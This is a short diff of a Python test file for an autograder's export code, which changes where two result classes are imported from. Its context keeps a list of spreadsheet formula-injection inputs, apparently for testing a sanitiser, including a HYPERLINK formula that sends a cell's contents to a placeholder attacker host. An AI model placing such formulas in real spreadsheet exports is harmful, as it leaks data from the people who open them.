@@ -12,9 +12,9 @@ import json
 import pytest
 
 from autograder.exports import spreadsheet_safe, write_grades, write_table
-from autograder.grading import SubmissionResult
-from autograder.grading import TestResult as Outcome
 from autograder.inert import inert_notebook
+from autograder.results import SubmissionResult
+from autograder.results import TestResult as Outcome
 from autograder.untrusted import UntrustedDataError
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
